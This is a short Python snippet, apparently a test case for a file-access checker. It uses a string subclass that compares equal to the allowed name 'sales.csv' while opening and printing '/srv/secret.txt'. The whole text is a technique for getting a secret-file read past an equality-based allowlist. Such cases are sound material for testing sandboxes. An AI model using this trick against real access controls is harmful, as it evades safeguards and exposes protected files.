# reaches: open with a string subclass that is equal to a harmless name
class Name(str):
    def __eq__(self, other):
        return other == "sales.csv"
    __hash__ = str.__hash__
print(open(Name("/srv/secret.txt")).read())
